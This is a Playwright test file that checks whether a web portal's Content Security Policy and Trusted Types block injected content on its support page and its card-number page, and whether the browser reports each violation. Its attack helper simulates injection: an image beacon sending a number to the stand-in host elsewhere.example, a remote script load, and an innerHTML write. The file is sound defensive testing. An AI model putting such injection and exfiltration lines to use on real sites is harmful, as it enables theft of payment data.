// Not the journeys' own test, which fails at any violation.
import { expect, type Page, type Request, test } from '@playwright/test';
import { long } from '../support/journey.ts';

/** The reports that the browser sends about a page, and the answers to them. */
function reportsOf(page: Page) {
  const answered: { readonly url: string; readonly status: number; readonly directive: string; readonly blocked: string }[] = [];
  page.context().on('requestfinished', async (request: Request) => {
    if (!request.url().endsWith('/policy-reports')) return;
    const { 'csp-report': report } = JSON.parse(request.postData() ?? '{}');
    const status = (await request.response())?.status() ?? 0;
    answered.push({ url: request.url(), status, directive: report['effective-directive'], blocked: report['blocked-uri'] });
  });
  return answered;
}

/** What an attacker who got that far would put into a page: an image that takes data elsewhere, a script, a text as HTML. */
async function attack(page: Page): Promise<void> {
  await page.evaluate(() => {
    new Image().src = 'https://elsewhere.example/?number=4242';
    const script = document.createElement('script');
    for (const act of [
      () => script.setAttribute('src', 'https://elsewhere.example/x.js'),
      () => Reflect.set(document.body, 'innerHTML', '<b>owned</b>'),
    ]) {
      try {
        act();
      } catch {
        // Refused, as it should be.
      }
    }
  });
}

test("(A13) (A24) what a page's policy forbids is blocked, and the browser reports it: in the portal and on the card number page", {
  tag: long,
}, async ({ page, baseURL }) => {
  const portal = new URL(baseURL ?? '');
  const vault = `http://127.0.0.1:${Number(portal.port) + 1}`;
  for (const address of [`${portal.origin}/support`, `${vault}/fields`]) {
    const reports = reportsOf(page);
    await page.goto(address);
    await attack(page);
    const own = () => reports.filter(({ url }) => url.startsWith(new URL(address).origin));
    await expect.poll(() => own().map(({ directive }) => directive)).toEqual(expect.arrayContaining(['img-src', 'require-trusted-types-for']));
    expect(own().every(({ status }) => status === 204)).toBe(true);
    expect(own().find(({ directive }) => directive === 'img-src')?.blocked).toMatch(/^https:\/\/elsewhere\.example/);
    await expect(page.locator('body')).not.toContainText('owned');
  }
});
